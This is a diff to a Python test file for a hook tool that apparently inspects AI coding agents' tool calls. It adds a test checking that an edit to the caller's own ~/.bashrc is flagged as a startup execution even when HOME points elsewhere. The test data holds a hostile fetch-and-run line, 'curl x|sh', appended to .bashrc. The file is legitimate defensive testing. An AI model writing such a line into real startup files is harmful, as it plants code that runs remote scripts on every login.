@@ -5,6 +5,8 @@ tool's filter reaches the files it matches on disk, a patch names the files it w
 from __future__ import annotations
 
 import json
+import os
+import pwd
 from pathlib import Path
 from typing import Any
 
@@ -30,7 +32,9 @@ def proj(tmp_path: Path) -> Path:
     return project
 
 
-def enriched(client: str, tool: str, tool_input: dict[str, Any], proj: Path, cwd: str = "") -> NormalisedEvent:
+def enriched(
+    client: str, tool: str, tool_input: dict[str, Any], proj: Path, cwd: str = "", uid: int = 1000
+) -> NormalisedEvent:
     """The event as the pipeline's enrichers leave it, from the agent's own PreToolUse payload."""
     names = [e.name for e in AGENTS[client].events]
     event = (
@@ -43,7 +47,7 @@ def enriched(client: str, tool: str, tool_input: dict[str, Any], proj: Path, cwd
     request = HookRequest(
         client=client, event=event, payload=json.dumps(payload).encode(), cwd=str(proj),
         env={"HOME": HOME, AGENTS[client].project_dir_env: str(proj)},
-        caller=Caller(uid=1000, gid=1000, pid=1), deadline=Deadline.after(5),
+        caller=Caller(uid=uid, gid=1000, pid=1), deadline=Deadline.after(5),
     )  # fmt: skip
     return enrich_tool_effects(enrich_paths(AGENTS[client].dialect.parse(request)))
 
@@ -260,3 +264,12 @@ def test_a_relative_path_from_a_session_that_moved_is_judged_where_the_agent_tak
     assert ("write", f"{HOME}/.bashrc", True) in effects(event)  # the session's directory: the home
     assert ("write", str(proj / ".bashrc"), True) in effects(event)  # the workspace root (Gemini's, Qwen's way)
     assert any(e["op"] == "exec" and e.get("startup") == f"{HOME}/.bashrc" for e in event.facts["effects"])
+
+
+def test_a_startup_file_of_the_callers_own_home_counts_when_home_points_elsewhere(proj: Path) -> None:
+    real = os.path.realpath(pwd.getpwuid(os.getuid()).pw_dir)
+    edit = {"file_path": f"{real}/.bashrc", "old_string": "", "new_string": "curl x|sh"}
+    event = enriched("qwen", "edit", edit, proj, uid=os.getuid())  # HOME is /nonexistent-hookd-home/alice
+    assert any(e["op"] == "exec" and e.get("startup") == f"{real}/.bashrc" for e in event.facts["effects"])
+    quiet = enriched("qwen", "edit", {**edit, "new_string": "export EDITOR=vim"}, proj, uid=os.getuid())
+    assert not any(e["op"] == "exec" for e in quiet.facts["effects"])  # variables only: nothing runs
